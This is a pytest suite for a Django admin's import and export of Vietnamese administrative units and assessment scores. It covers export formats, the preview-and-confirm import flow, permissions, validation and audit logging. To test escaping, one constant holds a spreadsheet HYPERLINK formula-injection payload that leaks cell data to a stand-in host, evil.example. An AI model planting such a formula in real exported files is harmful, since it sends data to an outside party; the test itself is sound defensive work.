"""Admin import/export (django-import-export) of units, criteria and scores, used like a browser:
export forms, the import form → preview → confirm with the stored file name, permissions, formula
escaping, and score imports that go through the scoring services (validated, audited, recomputed)."""

import csv
import io
import tempfile
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.core.cache import cache
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from parindex.audit.models import AuditEntry
from scoring.assessments.services import (
    AppraisalEntry,
    SelfEntry,
    assessment_get_or_create,
    assessment_submit,
    scores_apply_appraisal,
    scores_apply_self,
)
from scoring.exchange.resources import CriterionResource, ScoreResource
from scoring.models import AssessmentResult, Criterion, ImportRecord, Score, Via
from tests.publishing import walk_and_publish
from units.models import Unit, UnitKind
from units.resources import UnitResource

from .factories import make_framework, make_unit, rows_from_spec

TREE = [("1", 60), ("1.1", 30), ("1.2", 30), ("2", 40, "score", "survey"), ("3", 2, "bonus")]
XLSX, CSV = "0", "1"  # positions of the formats offered by the admin forms
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


def admin_url(model, view):
    return reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_{view}")


def export(client, model, resource, fmt, **params):
    """POST the export form with every field of the resource selected."""
    data = {"format": fmt, "resource": "0"}
    data |= {f"{resource.__name__.lower()}_{name}": "on" for name in resource().get_export_order()}
    return client.post(
        admin_url(model, "export")
        + ("?" + "&".join(f"{k}={v}" for k, v in params.items()) if params else ""),
        data,
    )


def xlsx_rows(response):
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return sheet, [[c.value for c in row] for row in sheet.iter_rows()]


def csv_rows(response):
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def csv_upload(rows, name="file.csv"):
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return SimpleUploadedFile(name, out.getvalue().encode("utf-8"), content_type="text/csv")


def preview(client, model, upload, fmt=CSV):
    return client.post(admin_url(model, "import"), {"format": fmt, "resource": "0", "import_file": upload})


def confirm_data(response):
    form = response.context["confirm_form"]
    return {
        name: form.initial[name] for name in ("import_file_name", "original_file_name", "format", "resource")
    }


@pytest.fixture
def data(district, commune, other_commune):
    framework = make_framework(district, code="XA-2024", rows=rows_from_spec(TREE))
    x1 = assessment_get_or_create(unit=commune, framework=framework)
    scores_apply_self(
        assessment=x1,
        entries={
            "1.1": SelfEntry(Decimal("25"), note="=1+1 ghi chú", evidence_reference="KH 3"),
            "1.2": SelfEntry(Decimal("30"), evidence_reference="QĐ 12"),
            "3": SelfEntry(Decimal("1"), evidence_reference="BK 1"),
        },
    )
    x2 = assessment_get_or_create(unit=other_commune, framework=framework)
    scores_apply_self(assessment=x2, entries={"1.1": SelfEntry(Decimal("10"))})

    department = make_unit("PNV", kind=UnitKind.DEPARTMENT, parent=district, name="Phòng Nội vụ")
    published = make_framework(
        district, code="PB-2024", rows=rows_from_spec([("1", 10), ("1.1", 10)]), unit_kind=UnitKind.DEPARTMENT
    )
    done = assessment_get_or_create(unit=department, framework=published)
    scores_apply_self(assessment=done, entries={"1.1": SelfEntry(Decimal("8"), evidence_reference="BC 1")})
    assessment_submit(assessment=done)
    scores_apply_appraisal(assessment=done, entries={"1.1": AppraisalEntry(Decimal("8"))})
    published = walk_and_publish(
        framework=published, decision_number="QĐ 1/QĐ-UBND", decision_date=date(2024, 12, 1)
    )
    return {"framework": framework, "x1": x1, "x2": x2, "published": published, "done": done}


@pytest.fixture
def limited_staff(db):
    """Staff who may look at units and scores but not change them."""
    user = get_user_model().objects.create_user("viewer", password="pw-12345", is_staff=True)
    user.user_permissions.add(
        *Permission.objects.filter(codename__in=["view_unit", "view_score", "view_criterion"])
    )
    client = Client()
    client.force_login(user)
    return client


# --- export -------------------------------------------------------------------------------------------------


def test_export_units_xlsx_and_csv(admin_client, data, commune):
    make_unit("X3", parent=commune.parent, name="Xã Ba", predecessors=[commune, Unit.objects.get(code="X2")])
    response = export(admin_client, Unit, UnitResource, XLSX)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    _sheet, rows = xlsx_rows(response)
    assert rows[0] == [  # the units file's own headers (DESIGN §5), never field names
        "Mã đơn vị",
        "Tên đơn vị",
        "Loại",
        "Mã đơn vị cấp trên",
        "Mã đơn vị trước sắp xếp",
        "Hoạt động từ năm",
        "Hoạt động đến năm",
    ]
    by_code = {row[0]: row for row in rows[1:]}
    assert by_code["X1"][1:4] == ["Xã Một", "commune", "H"]
    assert by_code["X3"][4] == "X1;X2"
    assert by_code["T"][3] in (None, "")

    response = export(admin_client, Unit, UnitResource, CSV)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the Vietnamese right
    rows = csv_rows(response)
    assert ["X1", "Xã Một", "commune", "H", "", "", ""] in rows
    assert len(rows) == 1 + Unit.objects.count()


# The exported score headers, in Vietnamese, and the column each stands for.
SCORE_HEADERS = {
    "Mã bộ chỉ số": "framework",
    "Mã đơn vị": "unit",
    "Tên đơn vị": "unit_name",
    "Mã tiêu chí": "criterion",
    "Tên tiêu chí": "criterion_title",
    "Điểm tối đa": "max_points",
    "Điểm tự đánh giá": "self_points",
    "Không áp dụng": "not_applicable",
    "Điểm thẩm định": "appraised_points",
    "Lý do thẩm định": "appraisal_reason",
    "Ghi chú": "note",
    "Tài liệu kiểm chứng": "evidence_reference",
    "Phiên bản": "version",
}


def score_keys(header):
    return [SCORE_HEADERS[h] for h in header]


def test_export_scores_xlsx_and_csv(admin_client, data):
    response = export(admin_client, Score, ScoreResource, XLSX)
    assert response.status_code == 200
    sheet, rows = xlsx_rows(response)
    assert rows[0] == list(SCORE_HEADERS)  # labels, never "self_points"
    header = score_keys(rows[0])
    row = next(r for r in rows[1:] if r[1] == "X1" and r[3] == "1.2")
    values = dict(zip(header, row, strict=True))
    assert values["framework"] == "XA-2024" and values["max_points"] == 30
    assert values["self_points"] == 30 and values["evidence_reference"] == "QĐ 12"
    # Numbers stay numbers (not text) and empty cells stay empty.
    cell = sheet.cell(row=rows.index(row) + 1, column=header.index("self_points") + 1)
    assert cell.data_type == "n"
    assert values["appraised_points"] is None
    assert len(rows) == 1 + Score.objects.count()

    response = export(admin_client, Score, ScoreResource, CSV)
    rows = csv_rows(response)
    values = dict(zip(score_keys(rows[0]), next(r for r in rows if r[1] == "PNV"), strict=True))
    assert values["framework"] == "PB-2024" and values["self_points"] == "8.00"
    assert values["appraised_points"] == "8.00" and values["not_applicable"] == "Không"  # not False/0


def test_export_follows_the_list_filters(admin_client, data):
    response = export(
        admin_client, Score, ScoreResource, CSV, **{"assessment__framework__id__exact": data["published"].pk}
    )
    rows = csv_rows(response)
    assert [r[0] for r in rows[1:]] == ["PB-2024"]


def test_formulae_are_escaped_on_export(admin_client, data, district):
    make_unit("X9", parent=district, name=EVIL)
    response = export(admin_client, Unit, UnitResource, XLSX)
    sheet, rows = xlsx_rows(response)
    index = next(i for i, r in enumerate(rows) if r[0] == "X9")
    cell = sheet.cell(row=index + 1, column=2)
    assert cell.value == EVIL and cell.data_type == "s"  # stored as text, never as a formula
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)

    rows = csv_rows(export(admin_client, Unit, UnitResource, CSV))
    assert next(r for r in rows if r[0] == "X9")[1] == "'" + EVIL

    rows = csv_rows(export(admin_client, Score, ScoreResource, CSV))
    note = dict(
        zip(score_keys(rows[0]), next(r for r in rows if r[1] == "X1" and r[3] == "1.1"), strict=True)
    )["note"]
    assert note == "'=1+1 ghi chú"
    sheet, _rows = xlsx_rows(export(admin_client, Score, ScoreResource, XLSX))
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_export_runs_a_fixed_number_of_queries(admin_client, data, district):
    def count():
        with CaptureQueriesContext(connection) as queries:
            assert export(admin_client, Score, ScoreResource, XLSX).status_code == 200
            assert export(admin_client, Unit, UnitResource, CSV).status_code == 200
        return len(queries)

    before = count()
    framework = data["framework"]
    for i in range(6):
        unit = make_unit(f"XN{i}", parent=district, predecessors=[Unit.objects.get(code="X1")])
        assessment = assessment_get_or_create(unit=unit, framework=framework)
        scores_apply_self(
            assessment=assessment, entries={"1.1": SelfEntry(Decimal(i)), "1.2": SelfEntry(None)}
        )
    assert count() == before


def test_criteria_are_exported_not_imported(admin_client, data):
    rows = csv_rows(export(admin_client, Criterion, CriterionResource, CSV))
    assert rows[0] == [
        "Mã bộ chỉ số",
        "Mã",
        "Tiêu chí",
        "Điểm tối đa",
        "Loại",
        "Nguồn",
        "Cách chấm",
        "Mã cấp trên",
        "Hướng dẫn chấm",
    ]
    assert ["XA-2024", "2", "Tiêu chí 2", "40.00", "score", "survey", "", "", ""] in rows
    assert ["XA-2024", "1.2", "Tiêu chí 1.2", "30.00", "score", "self", "", "1", ""] in rows
    assert len(rows) == 1 + Criterion.objects.count()
    page = admin_client.get(admin_url(Criterion, "changelist"))
    assert admin_url(Criterion, "export") in page.content.decode()
    assert "/import/" not in page.content.decode()
    assert admin_client.get("/admin/scoring/criterion/import/").status_code in (302, 404)


# --- units import --------------------------------------------------------------------------------------------


def test_units_import_preview_then_confirm_in_another_process(admin_client, admin_user, data, monkeypatch):
    upload = csv_upload(
        [
            ["Mã đơn vị", "Tên đơn vị", "Loại", "Mã đơn vị cấp trên", "Mã đơn vị trước sắp xếp"],
            ["H2", "Huyện Mới", "huyện", "T", ""],
            ["X21", "Xã Hợp Nhất", "xã", "H2", "X1;X2"],
            ["X1", "Xã Một (đổi tên)", "commune", "H", ""],
        ]
    )
    response = preview(admin_client, Unit, upload)
    assert response.status_code == 200
    result = response.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert [row.import_type for row in result.rows] == ["new", "new", "update"]
    assert not Unit.objects.filter(code__in=["H2", "X21"]).exists()  # the preview saved nothing
    payload = confirm_data(response)
    assert default_storage.exists(f"django-import-export/{payload['import_file_name']}")  # shared media

    # The confirm reaches another web process: nothing of the first survives but the database and
    # the shared media folder (no cache, a different temporary folder, a new client).
    cache.clear()
    monkeypatch.setattr(tempfile, "tempdir", tempfile.mkdtemp())
    other = Client()
    other.force_login(admin_user)
    response = other.post(admin_url(Unit, "process_import"), payload)
    assert response.status_code == 302 and response["Location"] == admin_url(Unit, "changelist")

    h2, x21, x1 = (Unit.objects.get(code=c) for c in ("H2", "X21", "X1"))
    province = Unit.objects.get(code="T")
    assert h2.parent == province and h2.kind == UnitKind.DISTRICT and h2.path == f"{province.path}{h2.pk}/"
    assert x21.parent == h2 and x21.kind == UnitKind.COMMUNE and x21.path == f"{h2.path}{x21.pk}/"
    assert sorted(x21.predecessors.values_list("code", flat=True)) == ["X1", "X2"]
    assert x1.name == "Xã Một (đổi tên)" and x1.path == f"{Unit.objects.get(code='H').path}{x1.pk}/"
    assert not default_storage.exists(f"django-import-export/{payload['import_file_name']}")

    # Confirming the same file again (a double click, a second tab): a message, not a server error.
    response = other.post(admin_url(Unit, "process_import"), payload, follow=True)
    assert response.status_code == 200
    assert any(m.level_tag == "error" for m in response.context["messages"])


def test_units_import_moves_a_subtree_with_its_paths(admin_client, data, district, commune):
    new_district = make_unit("H9", kind=UnitKind.DISTRICT, parent=district.parent)
    child = make_unit("X1A", parent=commune)  # a unit under the commune that moves
    response = preview(
        admin_client,
        Unit,
        csv_upload([["code", "name", "kind", "parent"], ["X1", "Xã Một", "commune", "H9"]]),
    )
    admin_client.post(admin_url(Unit, "process_import"), confirm_data(response))
    commune.refresh_from_db()
    child.refresh_from_db()
    assert commune.parent == new_district and commune.path == f"{new_district.path}{commune.pk}/"
    assert child.path == f"{commune.path}{child.pk}/"


def test_units_import_with_bad_rows_offers_no_confirm_and_saves_nothing(admin_client, data):
    upload = csv_upload(
        [
            ["code", "name", "kind", "parent", "predecessors"],
            ["N1", "Xã Mới", "xã", "H", ""],
            ["N2", "Xã Sai", "làng", "KHONGCO", "ZZZ"],
            ["H", "Huyện Thử", "district", "X1", ""],  # under its own descendant
        ]
    )
    response = preview(admin_client, Unit, upload)
    assert response.status_code == 200
    result = response.context["result"]
    assert "confirm_form" not in response.context
    invalid = {row.number: row for row in result.invalid_rows}
    assert set(invalid) == {2, 3}
    assert set(invalid[2].field_specific_errors) == {"kind", "parent", "predecessors"}
    assert "KHONGCO" in response.content.decode() and "ZZZ" in response.content.decode()
    assert not Unit.objects.filter(code__in=["N1", "N2"]).exists()
    assert Unit.objects.get(code="H").parent.code == "T"


def test_units_import_of_unusable_files_says_why(admin_client, data):
    response = preview(admin_client, Unit, csv_upload([["name", "kind"], ["Xã Mới", "xã"]]))
    assert response.status_code == 200 and "confirm_form" not in response.context
    assert response.context["result"].base_errors
    assert "code" in response.content.decode() and "Traceback" not in response.content.decode()
    assert not Unit.objects.filter(name="Xã Mới").exists()


@pytest.mark.parametrize(
    "content, words",
    [
        (b"code,name\nX,Y\n", ".xlsx"),  # a text file renamed to .xlsx
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, ".xls"),  # an old Excel file
        (b"PK\x03\x04broken", "zip"),  # a damaged workbook
    ],
)
def test_hostile_or_broken_files_get_a_clear_message(admin_client, data, content, words):
    response = preview(admin_client, Score, SimpleUploadedFile("scores.xlsx", content), fmt=XLSX)
    assert response.status_code == 200 and "confirm_form" not in response.context
    errors = " ".join(response.context["form"].errors["import_file"])
    assert words in errors and "Traceback" not in response.content.decode()


def test_uploads_above_the_size_cap_are_refused(admin_client, data, settings):
    settings.PARINDEX_UPLOAD_MAX_BYTES = 100
    upload = csv_upload(
        [["code", "name", "kind", "parent"]] + [[f"N{i}", "Xã Mới", "xã", "H"] for i in range(20)]
    )
    response = preview(admin_client, Unit, upload)
    assert response.status_code == 200 and response.context["form"].errors["import_file"]
    assert not Unit.objects.filter(code="N1").exists()


def test_semicolon_csv_from_a_vietnamese_excel_is_read(admin_client, data):
    upload = SimpleUploadedFile(
        "units.csv",
        "Mã đơn vị;Tên đơn vị;Loại;Mã đơn vị cấp trên\r\nX7;Phường Bảy;phường;H\r\n".encode("utf-8-sig"),
    )
    response = preview(admin_client, Unit, upload)
    admin_client.post(admin_url(Unit, "process_import"), confirm_data(response))
    assert Unit.objects.get(code="X7").kind == UnitKind.WARD


def test_units_import_accepts_xlsx(admin_client, data):
    book = openpyxl.Workbook()
    book.active.append(["code", "name", "kind", "parent"])
    book.active.append(["XL1", "Phường Một", "phường", "H"])
    stream = io.BytesIO()
    book.save(stream)
    upload = SimpleUploadedFile("units.xlsx", stream.getvalue())
    response = preview(admin_client, Unit, upload, fmt=XLSX)
    admin_client.post(admin_url(Unit, "process_import"), confirm_data(response))
    unit = Unit.objects.get(code="XL1")
    assert unit.kind == UnitKind.WARD and unit.parent.code == "H"


def test_exported_units_reimport_unchanged(admin_client, data, district):
    make_unit("X9", parent=district, name=EVIL)
    exported = export(admin_client, Unit, UnitResource, CSV).content
    response = preview(admin_client, Unit, SimpleUploadedFile("units.csv", exported))
    result = response.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert {row.import_type for row in result.rows} == {"skip"}  # the escaped name reads back as it was


def test_exported_scores_with_vietnamese_headers_reimport_unchanged(admin_client, data):
    exported = export(admin_client, Score, ScoreResource, CSV).content
    assert "Điểm tự đánh giá".encode() in exported and b"self_points" not in exported
    response = preview(admin_client, Score, SimpleUploadedFile("scores.csv", exported))
    result = response.context["result"]
    assert not result.has_errors() and not result.has_validation_errors(), result.invalid_rows
    assert {row.import_type for row in result.rows} == {"skip"}


# --- scores import ------------------------------------------------------------------------------------------

SCORE_HEADER = [
    "framework",
    "unit",
    "criterion",
    "self_points",
    "appraised_points",
    "appraisal_reason",
    "note",
]


def test_scores_import_goes_through_the_services(admin_client, admin_user, data):
    assessment_submit(assessment=data["x1"])
    upload = csv_upload(
        [
            SCORE_HEADER,
            ["XA-2024", "X1", "1.1", "25", "20,5", "Thiếu văn bản", "=1+1 ghi chú"],
            ["XA-2024", "X1", "1.2", "30", "30", "", ""],
            ["XA-2024", "X1", "2", "", "35.5", "", ""],  # survey points
            ["XA-2024", "X1", "3", "1", "1", "", ""],
            ["XA-2024", "X2", "1.2", "12,5", "", "", "Tự chấm bổ sung"],
        ]
    )
    response = preview(admin_client, Score, upload)
    result = response.context["result"]
    assert not result.has_errors() and not result.has_validation_errors(), result.invalid_rows
    assert not AuditEntry.objects.filter(via=Via.ADMIN).exists()  # the preview saved nothing
    response = admin_client.post(admin_url(Score, "process_import"), confirm_data(response))
    assert response.status_code == 302

    score = Score.objects.get(assessment=data["x1"], criterion__code="1.1")
    assert score.appraised_points == Decimal("20.5") and score.appraisal_reason == "Thiếu văn bản"
    assert score.note == "=1+1 ghi chú"  # unchanged: the exported apostrophe would have been dropped
    assert Score.objects.get(assessment=data["x1"], criterion__code="2").appraised_points == Decimal("35.5")
    assert Score.objects.get(assessment=data["x2"], criterion__code="1.2").self_points == Decimal("12.5")
    audits = AuditEntry.objects.filter(via=Via.ADMIN, actor=admin_user)
    assert set(audits.values_list("action", flat=True)) >= {"appraise", "survey", "self_on_behalf", "status"}
    assert audits.filter(action="appraise", criterion_code="1.1", field="appraised_points").exists()
    x1 = data["x1"]
    x1.refresh_from_db()
    assert x1.status == "appraised"  # every self leaf now has appraised points
    result = AssessmentResult.objects.get(assessment=x1)
    assert result.points == Decimal("20.5") + Decimal("30") + Decimal("35.5") + 1 and not result.provisional


def test_scores_import_over_the_maximum_is_a_row_error_and_saves_nothing(admin_client, data):
    upload = csv_upload(
        [
            SCORE_HEADER,
            ["XA-2024", "X2", "1.2", "12", "", "", ""],
            ["XA-2024", "X1", "1.1", "31", "", "", ""],
            ["XA-2024", "X1", "1.2", "abc", "", "", ""],
            ["XA-2024", "X1", "9.9", "1", "", "", ""],
        ]
    )
    response = preview(admin_client, Score, upload)
    assert response.status_code == 200
    assert "confirm_form" not in response.context
    result = response.context["result"]
    assert {row.number for row in result.invalid_rows} == {2, 3, 4}
    assert not result.has_errors()  # all are row errors shown by row, none a crash
    page = response.content.decode()
    assert "31" in page and "abc" in page and "9.9" in page
    assert not Score.objects.filter(assessment=data["x2"], criterion__code="1.2").exists()
    assert Score.objects.get(assessment=data["x1"], criterion__code="1.1").self_points == Decimal("25")
    assert not AuditEntry.objects.filter(via=Via.ADMIN).exists()


def test_scores_import_refuses_a_published_framework(admin_client, data):
    upload = csv_upload([SCORE_HEADER, ["PB-2024", "PNV", "1.1", "8", "5", "Sai", ""]])
    response = preview(admin_client, Score, upload)
    result = response.context["result"]
    assert "confirm_form" not in response.context
    assert [row.number for row in result.invalid_rows] == [1]
    assert "PB-2024" in response.content.decode()
    assert Score.objects.get(assessment=data["done"], criterion__code="1.1").appraised_points == Decimal("8")


def test_scores_import_refused_at_confirm_saves_nothing(admin_client, data):
    """The framework is published between preview and confirm: the confirm saves no row at all."""
    upload = csv_upload(
        [SCORE_HEADER, ["XA-2024", "X2", "1.2", "12", "", "", ""], ["XA-2024", "X2", "1.1", "11", "", "", ""]]
    )
    response = preview(admin_client, Score, upload)
    payload = confirm_data(response)
    walk_and_publish(framework=data["framework"], decision_number="QĐ 9", decision_date=date(2024, 12, 20))
    response = admin_client.post(admin_url(Score, "process_import"), payload, follow=True)
    assert response.status_code == 200
    assert any(m.level_tag == "error" and "XA-2024" in m.message for m in response.context["messages"])
    assert Score.objects.get(assessment=data["x2"], criterion__code="1.1").self_points == Decimal("10")
    assert not Score.objects.filter(assessment=data["x2"], criterion__code="1.2").exists()


def test_scores_import_of_a_submitted_self_assessment_is_refused_by_row(admin_client, data):
    assessment_submit(assessment=data["x1"])
    response = preview(
        admin_client, Score, csv_upload([SCORE_HEADER, ["XA-2024", "X1", "1.1", "5", "", "", ""]])
    )
    assert [row.number for row in response.context["result"].invalid_rows] == [1]
    assert "confirm_form" not in response.context


def test_exported_scores_reimport_unchanged(admin_client, data):
    exported = export(admin_client, Score, ScoreResource, XLSX).content
    upload = SimpleUploadedFile("scores.xlsx", exported)
    response = preview(admin_client, Score, upload, fmt=XLSX)
    result = response.context["result"]
    assert not result.has_errors() and not result.has_validation_errors(), result.invalid_rows
    assert {row.import_type for row in result.rows} == {"skip"}


# --- permissions ---------------------------------------------------------------------------------------------


def test_staff_without_the_permission_gets_no_import(limited_staff, data):
    for model in (Unit, Score):
        page = limited_staff.get(admin_url(model, "changelist"))
        assert page.status_code == 200
        assert admin_url(model, "import") not in page.content.decode()
        assert admin_url(model, "export") in page.content.decode()  # "view" is enough to export
        assert limited_staff.get(admin_url(model, "import")).status_code == 403
        upload = csv_upload([["code", "name", "kind"], ["N1", "Xã", "xã"]])
        assert preview(limited_staff, model, upload).status_code == 403
        assert (
            limited_staff.post(
                admin_url(model, "process_import"),
                {"import_file_name": "x", "format": CSV, "original_file_name": "x.csv"},
            ).status_code
            == 403
        )
    assert not Unit.objects.filter(code="N1").exists()
    assert export(limited_staff, Score, ScoreResource, CSV).status_code == 200


def test_unit_import_needs_add_as_well_as_change(db, data):
    user = get_user_model().objects.create_user("editor", password="pw-12345", is_staff=True)
    user.user_permissions.add(*Permission.objects.filter(codename__in=["view_unit", "change_unit"]))
    client = Client()
    client.force_login(user)
    assert client.get(admin_url(Unit, "import")).status_code == 403
    user.user_permissions.add(Permission.objects.get(codename="add_unit"))
    client.force_login(get_user_model().objects.get(pk=user.pk))
    assert client.get(admin_url(Unit, "import")).status_code == 200


def test_staff_without_view_permission_cannot_export(db, data):
    user = get_user_model().objects.create_user("nobody", password="pw-12345", is_staff=True)
    client = Client()
    client.force_login(user)
    assert client.get(admin_url(Score, "export")).status_code == 403
    assert export(client, Unit, UnitResource, CSV).status_code == 403


def test_admin_sees_import_and_export_buttons(admin_client, data):
    for model in (Unit, Score):
        page = admin_client.get(admin_url(model, "changelist")).content.decode()
        assert admin_url(model, "import") in page and admin_url(model, "export") in page
        assert admin_client.get(admin_url(model, "import")).status_code == 200
        assert admin_client.get(admin_url(model, "export")).status_code == 200


# --- the import history ----------------------------------------------------------------------------------------


def test_import_records_are_listed_read_only(admin_client, admin_user, data):
    record = ImportRecord(
        kind="self",
        status="applied",
        framework=data["framework"],
        assessment=data["x1"],
        original_name="tu-cham-X1.xlsx",
        size=1234,
        changed=3,
        unchanged=40,
        problems=[{"vi": "D14: 15 lớn hơn điểm tối đa 13,5", "en": "D14: 15 is more than 13.5"}],
        requested_by=admin_user,
    )
    record.file.save("tu-cham-X1.xlsx", ContentFile(b"PK"), save=False)
    record.save()
    page = admin_client.get(admin_url(ImportRecord, "changelist"))
    assert page.status_code == 200 and "tu-cham-X1.xlsx" in page.content.decode()
    assert (
        admin_client.get(
            admin_url(ImportRecord, "changelist"), {"status__exact": "applied", "kind__exact": "self"}
        )
        .context["cl"]
        .result_count
        == 1
    )
    assert (
        admin_client.get(admin_url(ImportRecord, "changelist"), {"status__exact": "refused"})
        .context["cl"]
        .result_count
        == 0
    )
    change = admin_client.get(reverse("admin:scoring_importrecord_change", args=[record.pk]))
    assert change.status_code == 200 and "D14" in change.content.decode()
    assert b'name="_save"' not in change.content
    assert admin_client.get(admin_url(ImportRecord, "add")).status_code == 403
    download = admin_client.get(reverse("admin:scoring_importrecord_file", args=[record.pk]))
    assert download.status_code == 200 and b"".join(download.streaming_content) == b"PK"
    assert "tu-cham-X1.xlsx" in download["Content-Disposition"]


def test_import_record_file_needs_the_view_permission(limited_staff, data):
    record = ImportRecord(
        kind="survey", status="refused", framework=data["framework"], original_name="ks.xlsx"
    )
    record.file.save("ks.xlsx", ContentFile(b"PK"), save=True)
    assert limited_staff.get(reverse("admin:scoring_importrecord_file", args=[record.pk])).status_code == 403
    assert limited_staff.get(admin_url(ImportRecord, "changelist")).status_code == 403


# --- score imports read like every other import ----------------------------------------------------------


def xlsx_upload(rows, name="scores.xlsx"):
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    stream = io.BytesIO()
    book.save(stream)
    return SimpleUploadedFile(name, stream.getvalue())


def test_scores_import_refuses_formula_cells_and_saves_nothing(admin_client, data):
    """A formula's cached value is only what the file claims: refused with the importers' message."""
    upload = xlsx_upload(
        [
            SCORE_HEADER,
            ["XA-2024", "X2", "1.2", 12, None, None, None],
            ["XA-2024", "X1", "1.1", "=20+5", None, None, None],
        ]
    )
    response = preview(admin_client, Score, upload, fmt=XLSX)
    assert response.status_code == 200
    assert "confirm_form" not in response.context
    result = response.context["result"]
    assert [row.number for row in result.invalid_rows] == [2]
    text = str(result.invalid_rows[0].error_dict)
    assert "formula" in text or "công thức" in text
    assert not Score.objects.filter(assessment=data["x2"], criterion__code="1.2").exists()
    assert Score.objects.get(assessment=data["x1"], criterion__code="1.1").self_points == Decimal("25")
    assert not AuditEntry.objects.filter(via=Via.ADMIN).exists()


def test_scores_import_blank_cell_keeps_the_stored_points(admin_client, data):
    assessment_submit(assessment=data["x1"])
    scores_apply_appraisal(
        assessment=data["x1"], entries={"1.1": AppraisalEntry(Decimal("20"), reason="Thiếu")}
    )
    upload = csv_upload(
        [
            SCORE_HEADER,
            ["XA-2024", "X2", "1.1", "", "", "", ""],  # blank points: the stored 10 stays
            [
                "XA-2024",
                "X1",
                "1.1",
                "25",
                "",
                "Thiếu",
                "=1+1 ghi chú",
            ],  # blank appraisal: the stored 20 stays
            ["XA-2024", "X1", "1.2", "30", "28", "Thiếu một văn bản", ""],
        ]
    )
    response = preview(admin_client, Score, upload)
    result = response.context["result"]
    assert not result.has_errors() and not result.has_validation_errors(), result.invalid_rows
    response = admin_client.post(admin_url(Score, "process_import"), confirm_data(response))
    assert response.status_code == 302
    assert Score.objects.get(assessment=data["x2"], criterion__code="1.1").self_points == Decimal("10")
    kept = Score.objects.get(assessment=data["x1"], criterion__code="1.1")
    assert kept.self_points == Decimal("25") and kept.appraised_points == Decimal("20")
    assert Score.objects.get(assessment=data["x1"], criterion__code="1.2").appraised_points == Decimal("28")
    assert not AuditEntry.objects.filter(via=Via.ADMIN, new_value="").exists()  # nothing was cleared


def test_score_resource_does_not_import_the_admin():
    """scoring.admin uses scoring.exchange.resources, never the other way round (no import cycle)."""
    import ast
    from pathlib import Path

    import scoring.exchange.resources

    tree = ast.parse(Path(scoring.exchange.resources.__file__).read_text(encoding="utf-8"))
    imported = {node.module for node in ast.walk(tree) if isinstance(node, ast.ImportFrom) and node.module}
    imported |= {
        alias.name for node in ast.walk(tree) if isinstance(node, ast.Import) for alias in node.names
    }
    assert imported and not {"admin", "scoring.admin"} & imported
